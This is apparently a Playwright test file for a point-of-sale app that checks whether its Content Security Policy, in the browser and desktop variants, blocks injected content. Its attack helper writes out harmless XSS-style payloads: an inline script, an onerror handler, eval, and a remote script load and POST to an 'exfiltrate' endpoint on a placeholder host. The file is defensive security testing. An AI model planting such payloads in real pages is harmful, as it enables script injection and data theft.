// The desktop checklist's "the CSP holds" (issue #16), in Debian's Chromium since Electron cannot
// run here: the built renderer served by a real engine, under the policy a browser gets from the
// engine (helmet + the page's meta tag) and under the one the desktop window gets (main.ts puts
// contentSecurityPolicy() on the engine's documents; here page.route does what its
// onHeadersReceived does; the renderer's meta policy is taken out so that the desktop one is
// tested alone). In each, a script in the page tries what an injected payload would:
// inline script, inline handler, eval, and a script, image and fetch from a remote origin.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startTestEngine, type TestEngine } from '../fixtures/engine';
import { launchChromium, ensureRendererBuilt, RENDERER, TillPage, E2E_WAIT_MS } from './till-page';
import { contentSecurityPolicy, originOf, withCsp } from '../../main/desktop/security';

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    __violations: Violation[];
    __pwned?: string[];
  }
}

const REMOTE_HOST = 'example.invalid';
const REMOTE = `http://${REMOTE_HOST}`;

let eng: TestEngine;
let browser: Browser;

before(async () => {
  ensureRendererBuilt();
  eng = await startTestEngine({}, undefined, { rendererDir: RENDERER, scheduler: false });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await eng?.stop();
});

/**
 * A page on the engine's UI that records every CSP violation from its first script on, logged in;
 * with the CSP header its document came with.
 */
async function openRecorded(context: BrowserContext): Promise<{ page: Page; csp: string | undefined }> {
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  const page = await context.newPage();
  page.setDefaultTimeout(E2E_WAIT_MS);
  const res = await page.goto(eng.url);
  await new TillPage(page).login();
  return { page, csp: res?.headers()['content-security-policy'] };
}

/** Tries each payload from inside the page and reports what ran and what the browser refused. */
async function attack(page: Page) {
  const before = await page.evaluate(() => window.__violations.length);
  const outcome = await page.evaluate(async (remote) => {
    window.__pwned = [];
    const inline = document.createElement('script');
    inline.textContent = "window.__pwned.push('inline script')";
    document.head.append(inline);

    const holder = document.createElement('div');
    holder.innerHTML = `<img src="data:," onerror="window.__pwned.push('inline handler')">`;
    document.body.append(holder);

    // From a task of the page's own: code that page.evaluate runs directly is DevTools' and may eval.
    const evalRan = await new Promise<boolean>((resolve) =>
      setTimeout(() => {
        try {
          resolve((0, eval)('1 + 1') === 2);
        } catch {
          resolve(false);
        }
      }),
    );

    const script = document.createElement('script');
    script.src = `${remote}/payload.js`;
    const scriptLoaded = new Promise<string>((resolve) => {
      script.onload = () => resolve('loaded');
      script.onerror = () => resolve('error');
    });
    document.head.append(script);

    const img = document.createElement('img');
    img.src = `${remote}/pixel.png`;
    document.body.append(img);

    let fetchResult = 'resolved';
    try {
      await fetch(`${remote}/exfiltrate`, { method: 'POST', body: 'datos' });
    } catch (err) {
      fetchResult = `rejected: ${(err as Error).name}`;
    }
    return { evalRan, script: await scriptLoaded, fetchResult };
  }, REMOTE);
  // Violation reports are queued as tasks: wait for the six expected (inline script, inline
  // handler, eval, remote script, remote image, remote fetch); if some never come, the
  // assertions below say which.
  await page.waitForFunction((n) => window.__violations.length >= n + 6, before, { timeout: E2E_WAIT_MS }).catch(() => undefined);
  const violations = (await page.evaluate(() => window.__violations)).slice(before);
  const pwned = await page.evaluate(() => window.__pwned ?? []);
  return { ...outcome, violations, pwned };
}

function assertAllBlocked(r: Awaited<ReturnType<typeof attack>>): void {
  assert.deepEqual(r.pwned, [], 'no inline script or inline handler ran');
  assert.equal(r.evalRan, false, 'eval refused');
  assert.equal(r.script, 'error', 'the remote script did not load');
  assert.equal(r.fetchResult, 'rejected: TypeError', 'the fetch to another origin was refused');
  const seen = (directive: string, blocked: (b: string) => boolean) =>
    assert.ok(
      r.violations.some((v) => v.directive === directive && blocked(v.blocked)),
      `${directive} violation in ${JSON.stringify(r.violations)}`,
    );
  seen('script-src-elem', (b) => b === 'inline');
  seen('script-src-attr', (b) => b === 'inline');
  seen('script-src', (b) => b === 'eval');
  // The engine's policy has upgrade-insecure-requests (helmet's default): the report may name https.
  const remote = (b: string) => b.startsWith(`http://${REMOTE_HOST}/`) || b.startsWith(`https://${REMOTE_HOST}/`);
  seen('script-src-elem', remote);
  seen('img-src', remote);
  seen('connect-src', remote);
}

describe('the CSP a browser gets from the engine', () => {
  let context: BrowserContext;
  let page: Page;

  before(async () => {
    context = await browser.newContext({ locale: 'es-BO' });
    ({ page } = await openRecorded(context));
  });
  after(() => context?.close());

  test('the till loads and logs in without a single violation', async () => {
    assert.deepEqual(await page.evaluate(() => window.__violations), []);
  });

  test('blocks inline script, inline handlers, eval, and remote script, image and fetch', async () => {
    assertAllBlocked(await attack(page));
  });
});

describe('the CSP the desktop window gets (main/desktop/security.ts)', () => {
  let context: BrowserContext;
  let page: Page;
  let csp: string;
  let rewritten = 0;
  let served: string | undefined;

  before(async () => {
    const origin = originOf(eng.url)!;
    csp = contentSecurityPolicy(origin);
    context = await browser.newContext({ locale: 'es-BO' });
    // main.ts's onHeadersReceived: documents of the engine's origin get the desktop policy, in
    // place of whatever the engine sent.
    await context.route('**/*', async (route) => {
      const req = route.request();
      if (!req.isNavigationRequest() || originOf(req.url()) !== origin) return route.continue();
      const response = await route.fetch();
      const headers = Object.fromEntries(response.headersArray().map((h) => [h.name, [h.value]]));
      const out = withCsp(headers, csp);
      // The page's own meta policy is dropped so that the desktop policy is tested alone: with
      // both in force, either one would block the payloads.
      const html = await response.text();
      const body = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, '');
      assert.notEqual(body, html, 'the renderer has its meta policy');
      rewritten++;
      return route.fulfill({ response, body, headers: Object.fromEntries(Object.entries(out).map(([k, v]) => [k, v.join(', ')])) });
    });
    ({ page, csp: served } = await openRecorded(context));
  });
  after(() => context?.close());

  test('the till loads and logs in under the desktop policy without a single violation', async () => {
    assert.ok(rewritten > 0, 'the document carried the desktop policy');
    assert.equal(served, csp, 'the policy in force is the desktop one');
    assert.deepEqual(await page.evaluate(() => window.__violations), []);
  });

  test('blocks inline script, inline handlers, eval, and remote script, image and fetch', async () => {
    assertAllBlocked(await attack(page));
  });
});
